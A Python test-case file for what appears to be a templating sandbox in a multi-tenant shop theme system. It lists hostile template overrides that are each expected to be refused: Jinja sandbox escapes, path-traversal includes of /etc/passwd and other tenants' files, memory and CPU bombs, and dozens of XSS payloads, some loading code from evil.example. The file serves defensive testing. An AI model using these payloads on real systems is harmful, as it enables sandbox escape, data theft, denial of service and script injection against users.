"""Templates: overrides that look for a way out of the sandbox, take what they can, or write what browsers run."""

from __future__ import annotations

from typing import Any

from hostile.case import Case, inert, refused

PAGE = "theme/templates/page.html"


def _override(text: str, head: bool = False) -> dict[str, Any]:
    block = "head" if head else "main"
    return {PAGE: '{% extends "theme:templates/page.html" %}\n{% block ' + block + " %}\n" + text + "\n{% endblock %}\n"}


def _many(text: str, products: int = 40) -> dict[str, Any]:
    """An override that each of many pages pays for."""
    made = {f"catalog/products/p-{n}.yaml": {"title": f"P {n}", "price": "1.00"} for n in range(products)}
    return made | {"theme/templates/product.html": '{% extends "theme:templates/product.html" %}\n{% block main %}\n' + text + "\n{% endblock %}"}


# Ways to Python's own objects. Most have no such name in the sandbox; what resolves at all is refused when it is used.
ESCAPES = (
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ page.__class__.__init__.__globals__ }}", "{{ page['__cl' ~ 'ass__'] }}", "{{ page | attr('__class__') }}",
    "{{ [page] | map('attr', '__class__') | list }}", "{{ [page] | selectattr('__class__') | list }}", "{{ [page] | join(attribute='__class__') }}", "{{ '{0.__class__}'.format(page) }}",
    "{{ '{0.__class__.__init__.__globals__}'.format_map({'0': page}) }}", "{{ '%s' | format(page) }}", "{{ self._TemplateReference__context }}", "{{ asset.__self__ }}", "{{ range.__self__ }}",
    "{% macro m() %}{% endmacro %}{{ m._environment.loader }}", "{% macro m() %}{{ caller._environment }}{% endmacro %}{% call m() %}{% endcall %}", "{% for x in [1] %}{{ loop._iterator }}{% endfor %}",
    "{{ lipsum.__globals__ }}", "{{ cycler('a') }}", "{{ joiner.__init__ }}", "{{ namespace.__init__.__globals__ }}", "{{ dict.__base__ }}", "{{ none.__class__ }}", "{{ (page.title.encode)().__class__ }}",
    "{{ page._replace(title='x') }}", "{{ page._asdict() }}", "{% set page.title = 'x' %}", "{{ [].append(1) }}", "{{ '<b>' | safe }}", "{{ environment }}", "{{ config }}", "{{ request }}", "{{ debug() }}",
    "{{ asset('../../good/tenant.yaml') }}", "{{ asset('/etc/passwd') }}", "{{ (page | string).__class__ }}", "{{ 1 | random }}", "{{ shop | pprint }}", "{{ page | tojson }}", "{{ {'onclick': 'x'} | xmlattr }}",
)  # fmt: skip

INCLUDES = {
    "another-tenants": "{% include '../../../good/theme/snippets/card.html' %}", "absolute": "{% include '/etc/passwd' %}", "outside": "{% include '../../../../outside/secret.html' %}",
    "the-theme-of-nobody": "{% include 'theme:../../outside/secret.html' %}", "python": "{% import 'os' as os %}", "a-list": "{% include ['/etc/passwd', '../x'] ignore missing %}",
}  # fmt: skip

BOMBS = {
    "text": "{{ 'x' * 500000000 }}", "power": "{{ 9 ** 9 ** 9 }}", "format": "{{ '%0999999999d' % 1 }}", "padding": "{{ '{:>999999999}'.format('x') }}", "six-megabytes": "{% for a in range(70) %}{{ 'x' * 90000 }}{% endfor %}",
    "range": "{{ range(999999999) | list }}", "round": "{{ 1.5 | round(999999999, 'ceil') }}",
    "numbers": "{% set ns = namespace(n=9) %}{% for i in range(64) %}{% set ns.n = ns.n * ns.n %}{% endfor %}", "recursion": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "doubling": "{% set ns = namespace(s='x') %}{% for i in range(64) %}{% set ns.s = ns.s ~ ns.s %}{% endfor %}", "replace": "{{ ('a' * 99999).replace('a', 'b' * 99999) }}",
    "batch": "{{ range(9) | batch(999999999, 'x') | list }}", "bytes": "{{ 'x'.encode().ljust(2000000000) }}", "lists": "{% set ns = namespace(x=['x' * 90000]) %}{% for a in range(60) %}{% set ns.x = ns.x + ns.x %}{% endfor %}",
    "output": "{% for a in range(90000) %}{{ 'x' * 90000 }}{% endfor %}", "captured": "{% set x %}{% for a in range(99999) %}{% for b in range(99999) %}words{% endfor %}{% endfor %}{% endset %}",
}  # fmt: skip

# What a browser would run or fetch. `X` is the tenant's product title in attributes and texts of the theme's own words.
ACTIVE = {
    "script": "<script>alert(1)</script>", "script-in-capitals": "<SCRIPT>alert(1)</SCRIPT>", "script-elsewhere": '<script src="https://evil.example/x.js"></script>', "script-beside": '<script src="//evil.example/x.js"></script>',
    "script-as-data": '<script type="application/json"></script><script>alert(1)</script>', "script-data-url": '<script src="data:text/javascript,alert(1)"></script>', "script-module": '<script type="module">alert(1)</script>',
    "import-map": '<script type="importmap">{"imports":{}}</script>', "speculation": '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://evil.example/"]}]}</script>',
    "handler": '<img src="/x.png" onerror="alert(1)">', "handler-unquoted": "<img src=x onerror=alert(1)>", "handler-with-slash": "<img/src=x/onerror=alert(1)>", "handler-after-a-form-feed": "<img\x0csrc=x\x0conerror=alert(1)>",
    "handler-after-a-quote": '<img alt="a"onerror="alert(1)" src="x">', "handler-in-capitals": '<img src="x" ONERROR="alert(1)">', "handler-of-a-made-up-tag": '<x-y onfocus="alert(1)" tabindex="0" autofocus>', "handler-twice": '<p title="a" title="b">x</p>',
    "javascript": '<a href="javascript:alert(1)">x</a>', "javascript-encoded": '<a href="java&#115;cript:alert(1)">x</a>', "javascript-with-tab": '<a href="java&Tab;script:alert(1)">x</a>', "javascript-after-a-control": '<a href="&#1;javascript:alert(1)">x</a>',
    "javascript-form": '<form action="javascript:alert(1)"></form>', "javascript-button": '<button formaction="javascript:alert(1)">x</button>', "data-link": '<a href="data:text/html,<script>alert(1)</script>">x</a>', "vbscript": '<a href="vbscript:x">x</a>',
    "frame": '<iframe src="/"></iframe>', "frame-of-text": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "object": '<object data="/x"></object>', "embed": '<embed src="/x">', "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">', "other-charset": '<meta charset="iso-2022-jp">', "style": "<style>@import 'https://evil.example/x.css';</style>", "style-attribute": '<p style="background:url(https://evil.example/)">x</p>',
    "style-sheet": '<link rel="stylesheet" href="https://evil.example/x.css">', "preload": '<link rel="preload" as="image" href="https://evil.example/x.png">', "prefetch": '<link rel="dns-prefetch" href="//evil.example">', "icon": '<link rel="icon" href="https://evil.example/i.png">',
    "picture": '<img src="https://evil.example/x.png" alt="">', "picture-beside": '<img src="//evil.example/x.png" alt="">', "picture-backslash": '<img src="/\\evil.example/x.png" alt="">', "picture-set": '<img srcset="/a.png 1x, https://evil.example/x.png 2x" alt="">',
    "video": '<video src="https://evil.example/v.mp4"></video>', "poster": '<video poster="https://evil.example/v.png"></video>', "sound": '<audio src="https://evil.example/a.mp3" autoplay></audio>', "track": '<video><track src="https://evil.example/t.vtt"></video>',
    "svg-script": "<svg><script>alert(1)</script></svg>", "svg-handler": '<svg onload="alert(1)"></svg>', "svg-use": '<svg><use href="https://evil.example/x.svg#a"></use></svg>', "svg-animate": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
    "svg-foreign": "<svg><foreignObject><p>x</p></foreignObject></svg>", "svg-title": "<svg><title><img src=x onerror=alert(1)></title></svg>", "svg-paint": '<svg><rect fill="url(https://evil.example/#a)"/></svg>', "svg-image": '<svg><image href="https://evil.example/x.png"/></svg>',
    "math": '<math><mtext href="javascript:alert(1)">x</mtext></math>', "cdata": "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>", "comment-short": "<!--><img src=x onerror=alert(1)>-->", "comment-bang": "<!-- --!><img src=x onerror=alert(1)> -->",
    "no-script": "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "raw-text": "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>", "text-area": "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "never-ends": "<textarea>", "open-tag": '<p title="', "declaration": "<?xml-stylesheet href='https://evil.example/'?>", "ping": '<a href="/" ping="https://evil.example/">x</a>',
}  # fmt: skip

CASES: tuple[Case, ...] = (
    *(refused(f"escape-{n}", "HS421", f"{PAGE}:{2 if 'set page' in text else 3}:1", _override(text)) for n, text in enumerate(ESCAPES)),
    *(refused(f"include-{name}", "HS403", f"{PAGE}:3:1", _override(text)) for name, text in INCLUDES.items()),
    refused("include-computed", "HS402", f"{PAGE}:3:1", _override("{% include page.title %}")),
    refused("filters-by-the-thousand", "HS405", f"{PAGE}:1:1", {PAGE: "{{ 1" + "|string" * 20_000 + " }}"}),
    refused("include-itself-forever", "HS421", "theme/snippets/card.html:1:1", {"theme/snippets/card.html": '{% include "snippets/card.html" %}'}),
    *(refused(f"bomb-{name}", "HS422" if name in ("six-megabytes", "output", "lists", "captured", "replace", "doubling", "batch", "bytes", "format") else "HS421", f"{PAGE}:3:1", _override(text)) for name, text in BOMBS.items()),
    refused("a-little-too-much-on-every-page", "HS422", "theme/templates/product.html:3:1", _many("{% for a in range(2500) %}{% for b in range(4000) %}{% endfor %}{% endfor %}")),
    refused("deep-expression", "HS405", PAGE, {PAGE: "{{ " + "(" * 5_000 + "1" + ")" * 5_000 + " }}"}),
    refused("autoescape-off", "HS407", f"{PAGE}:3:1", _override("{% autoescape false %}{{ page.title }}{% endautoescape %}")),
    *(refused(f"active-{name}", "HS423", f"{PAGE}:3:1", _override(text)) for name, text in ACTIVE.items()),
    refused("active-through-json", "HS423", f"{PAGE}:3:1", {"pages/about.md": '---\ntitle: \'" onmouseover="alert(1)\'\n---\nx\n'} | _override("<p title=\"{{ page.title | json }}\">x</p>")),
    refused("active-in-the-head", "HS423", f"{PAGE}:3:1", _override('<link rel="manifest" href="https://evil.example/m.json">', head=True)),
    refused("active-in-a-card", "HS423", "theme/snippets/card.html:1:1", {"theme/snippets/card.html": '<img src="https://evil.example/{{ card.title }}.png" alt="">'}),
    inert("texts-in-an-override", {"pages/about.md": '---\ntitle: <img src=x onerror=alert(1)>"\n---\n<script>alert(2)</script>\n'} | _override('<h1 title="{{ page.title }}">{{ page.title }}</h1>\n{{ text.body_md | markdown }}<!-- a comment --><a href="https://elsewhere.example/">x</a> 1 < 2'), "<script>alert", "<img src=x"),
)  # fmt: skip
